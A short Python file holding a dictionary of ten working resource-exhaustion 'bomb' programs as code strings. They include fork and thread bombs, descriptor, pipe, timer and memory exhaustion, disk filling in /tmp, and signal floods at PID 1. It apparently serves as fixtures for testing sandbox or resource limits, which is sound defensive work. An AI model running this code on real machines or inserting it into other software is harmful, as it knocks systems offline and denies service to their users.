"""Programs of a child that take all that there is of something, and go on trying when they get no more."""

BOMBS = {
    "forks": """
        import os
        while True:
            try: os.fork()
            except OSError: pass
    """,
    "threads": """
        import threading
        def burn():
            while True: pass
        while True:
            try: threading.Thread(target=burn).start()
            except RuntimeError: pass
    """,
    "zombies": """
        import os
        while True:
            try:
                if os.fork() == 0: os._exit(0)
            except OSError: pass
    """,
    "double forks": """
        import os
        while True:
            try:
                if os.fork() == 0:
                    os.setsid()
                    os.fork()
            except OSError: pass
    """,
    "descriptors": """
        import os
        fds = []
        while True:
            try: fds.append(os.dup(0))
            except OSError: pass
    """,
    "timers": """
        import ctypes
        c = ctypes.CDLL(None)
        while True: c.timer_create(1, None, ctypes.byref(ctypes.c_void_p()))
    """,
    "pipes": """
        import os
        kept = []
        while True:
            try:
                kept.append(os.pipe()); os.set_blocking(kept[-1][1], False)
                os.write(kept[-1][1], bytes(65536))
            except OSError: pass
    """,
    "memory": """
        kept = []
        while True:
            try: kept.append(bytearray(1 << 20))
            except MemoryError: pass
    """,
    "files": """
        n = 0
        while True:
            try: open(f'/tmp/{n}', 'wb').write(bytes(1 << 20)); n += 1
            except OSError: pass
    """,
    "signals": """
        import os, signal
        signal.pthread_sigmask(signal.SIG_BLOCK, [40])
        while True:
            try: os.kill(1, 40)
            except OSError: pass
    """,
}
